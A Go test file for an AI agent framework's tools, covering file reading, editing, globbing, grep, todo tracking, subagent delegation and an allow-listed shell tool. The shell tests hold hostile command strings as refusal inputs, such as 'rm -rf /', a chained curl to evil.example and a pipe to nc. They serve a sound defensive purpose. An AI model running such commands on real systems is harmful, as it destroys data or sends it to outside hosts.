package tool

import (
	"context"
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/paasplatform/deepagents/core"
	"github.com/paasplatform/deepagents/fsys"
	"github.com/paasplatform/deepagents/sandbox"
	"github.com/paasplatform/deepagents/subagent"
	"github.com/paasplatform/deepagents/todo"
)

func newBackend(t *testing.T) (*fsys.Local, string) {
	t.Helper()
	dir := t.TempDir()
	return fsys.NewLocal(dir), dir
}

// -------------------- Filesystem Tool Tests --------------------

func TestReadFileTool(t *testing.T) {
	backend, dir := newBackend(t)
	require.NoError(t, os.WriteFile(filepath.Join(dir, "a.txt"), []byte("one\ntwo\nthree\n"), 0o644))

	rt := NewReadFileTool(backend)
	out, err := rt.Call(testToolContext(t), map[string]any{"path": "a.txt"})
	require.NoError(t, err)
	assert.Contains(t, out.(string), "1\tone")
	assert.Contains(t, out.(string), "3\tthree")
}

func TestReadFileToolPagination(t *testing.T) {
	backend, dir := newBackend(t)
	require.NoError(t, os.WriteFile(filepath.Join(dir, "a.txt"), []byte("one\ntwo\nthree\nfour\n"), 0o644))

	rt := NewReadFileTool(backend)
	out, err := rt.Call(testToolContext(t), map[string]any{"path": "a.txt", "offset": 1.0, "limit": 2.0})
	require.NoError(t, err)
	s := out.(string)
	assert.Contains(t, s, "2\ttwo")
	assert.Contains(t, s, "3\tthree")
	assert.NotContains(t, s, "1\tone")
	assert.Contains(t, s, "more lines")
}

func TestReadFileToolMissing(t *testing.T) {
	backend, _ := newBackend(t)
	rt := NewReadFileTool(backend)
	_, err := rt.Call(testToolContext(t), map[string]any{"path": "nope.txt"})
	require.Error(t, err)
	toolErr, ok := err.(*ToolError)
	require.True(t, ok)
	assert.Equal(t, "EXECUTION_ERROR", toolErr.Code)
}

func TestWriteAndEditFileTools(t *testing.T) {
	backend, dir := newBackend(t)
	tc := testToolContext(t)

	wt := NewWriteFileTool(backend)
	_, err := wt.Call(tc, map[string]any{"path": "sub/b.txt", "content": "hello world"})
	require.NoError(t, err)

	et := NewEditFileTool(backend)
	_, err = et.Call(tc, map[string]any{"path": "sub/b.txt", "match": "world", "replacement": "there"})
	require.NoError(t, err)

	data, err := os.ReadFile(filepath.Join(dir, "sub", "b.txt"))
	require.NoError(t, err)
	assert.Equal(t, "hello there", string(data))
}

func TestEditFileToolAmbiguous(t *testing.T) {
	backend, dir := newBackend(t)
	require.NoError(t, os.WriteFile(filepath.Join(dir, "c.txt"), []byte("x x"), 0o644))

	et := NewEditFileTool(backend)
	_, err := et.Call(testToolContext(t), map[string]any{"path": "c.txt", "match": "x", "replacement": "y"})
	require.Error(t, err)
	assert.Contains(t, err.Error(), "2")
}

func TestListDirTool(t *testing.T) {
	backend, dir := newBackend(t)
	require.NoError(t, os.MkdirAll(filepath.Join(dir, "sub"), 0o755))
	require.NoError(t, os.WriteFile(filepath.Join(dir, "a.txt"), []byte("x"), 0o644))

	lt := NewListDirTool(backend)
	out, err := lt.Call(testToolContext(t), map[string]any{"path": ""})
	require.NoError(t, err)
	assert.Contains(t, out.(string), "a.txt\n")
	assert.Contains(t, out.(string), "sub/\n")
}

func TestGlobTool(t *testing.T) {
	backend, dir := newBackend(t)
	require.NoError(t, os.MkdirAll(filepath.Join(dir, "pkg"), 0o755))
	require.NoError(t, os.WriteFile(filepath.Join(dir, "pkg", "m.go"), []byte("package m"), 0o644))
	require.NoError(t, os.WriteFile(filepath.Join(dir, "readme.md"), []byte("hi"), 0o644))

	gt := NewGlobTool(backend)
	out, err := gt.Call(testToolContext(t), map[string]any{"pattern": "**/*.go"})
	require.NoError(t, err)
	assert.Contains(t, out.(string), "m.go")
	assert.NotContains(t, out.(string), "readme.md")

	out, err = gt.Call(testToolContext(t), map[string]any{"pattern": "**/*.rs"})
	require.NoError(t, err)
	assert.Equal(t, "(no matches)", out)
}

func TestGrepTool(t *testing.T) {
	backend, dir := newBackend(t)
	require.NoError(t, os.WriteFile(filepath.Join(dir, "log.txt"), []byte("ok\nerror: bad\nok\n"), 0o644))

	gt := NewGrepTool(backend)
	out, err := gt.Call(testToolContext(t), map[string]any{"pattern": "error:"})
	require.NoError(t, err)
	assert.Contains(t, out.(string), "log.txt:2:error: bad")
}

// -------------------- Shell Tool Tests --------------------

func shellRouter(t *testing.T) *sandbox.Router {
	t.Helper()
	local, _ := newBackend(t)
	return sandbox.NewRouter(local)
}

func TestExecuteToolAllowed(t *testing.T) {
	et := NewExecuteTool(shellRouter(t), []string{"echo"})
	out, err := et.Call(testToolContext(t), map[string]any{"command": "echo hello"})
	require.NoError(t, err)
	assert.Contains(t, out.(string), "hello")
}

func TestExecuteToolEmptyAllowListRefuses(t *testing.T) {
	et := NewExecuteTool(shellRouter(t), nil)
	_, err := et.Call(testToolContext(t), map[string]any{"command": "echo hello"})
	require.Error(t, err)
	toolErr, ok := err.(*ToolError)
	require.True(t, ok)
	assert.Equal(t, "PERMISSION_DENIED", toolErr.Code)
}

func TestExecuteToolRejectsUnlistedCommand(t *testing.T) {
	et := NewExecuteTool(shellRouter(t), []string{"echo"})
	_, err := et.Call(testToolContext(t), map[string]any{"command": "rm -rf /"})
	require.Error(t, err)
	assert.Contains(t, err.Error(), "not on the allow-list")
}

func TestExecuteToolChecksChainedCommands(t *testing.T) {
	et := NewExecuteTool(shellRouter(t), []string{"echo"})
	for _, cmd := range []string{
		"echo a && rm -rf /",
		"echo a; curl evil.example",
		"echo a | nc host 80",
	} {
		_, err := et.Call(testToolContext(t), map[string]any{"command": cmd})
		require.Error(t, err, "command %q must be refused", cmd)
	}
}

func TestExecuteToolWildcardAllowsEverything(t *testing.T) {
	et := NewExecuteTool(shellRouter(t), []string{"*"})
	out, err := et.Call(testToolContext(t), map[string]any{"command": "printf hi"})
	require.NoError(t, err)
	assert.Contains(t, out.(string), "hi")
}

func TestExecuteToolStripsPathPrefix(t *testing.T) {
	et := NewExecuteTool(shellRouter(t), []string{"echo"})
	_, err := et.Call(testToolContext(t), map[string]any{"command": "/bin/echo hi"})
	require.NoError(t, err)
}

func TestExecuteToolReportsExitCode(t *testing.T) {
	et := NewExecuteTool(shellRouter(t), []string{"*"})
	out, err := et.Call(testToolContext(t), map[string]any{"command": "exit 3"})
	require.NoError(t, err)
	assert.Contains(t, out.(string), "exit code 3")
}

// -------------------- Todos Tool Tests --------------------

func TestWriteTodosTool(t *testing.T) {
	tracker := todo.NewTracker()
	wt := NewWriteTodosTool(tracker)

	_, err := wt.Call(testToolContext(t), map[string]any{
		"todos": []any{
			map[string]any{"description": "investigate", "status": "completed"},
			map[string]any{"description": "fix", "status": "in_progress"},
		},
	})
	require.NoError(t, err)

	items := tracker.Current()
	require.Len(t, items, 2)
	assert.Equal(t, core.TodoCompleted, items[0].Status)
	assert.Equal(t, "fix", items[1].Description)
}

func TestWriteTodosToolRejectsInvalidStatus(t *testing.T) {
	wt := NewWriteTodosTool(todo.NewTracker())
	_, err := wt.Call(testToolContext(t), map[string]any{
		"todos": []any{map[string]any{"description": "x", "status": "done"}},
	})
	require.Error(t, err)
	assert.Contains(t, err.Error(), "invalid status")
}

// -------------------- Task Tool Tests --------------------

func TestTaskToolDelegates(t *testing.T) {
	dispatcher := subagent.NewDispatcher(subagent.RunnerFunc(func(ctx context.Context, task subagent.Task) (string, error) {
		return "child answer: " + task.Input, nil
	}))
	tt := NewTaskTool(dispatcher)

	out, err := tt.Call(testToolContext(t), map[string]any{
		"description": "summarize",
		"prompt":      "summarize the notes",
	})
	require.NoError(t, err)
	assert.Equal(t, "child answer: summarize the notes", out)
}

func TestTaskToolSurfacesChildFailure(t *testing.T) {
	dispatcher := subagent.NewDispatcher(subagent.RunnerFunc(func(ctx context.Context, task subagent.Task) (string, error) {
		panic("child exploded")
	}))
	tt := NewTaskTool(dispatcher)

	_, err := tt.Call(testToolContext(t), map[string]any{"description": "d", "prompt": "p"})
	require.Error(t, err)
	assert.Contains(t, err.Error(), "child exploded")
}
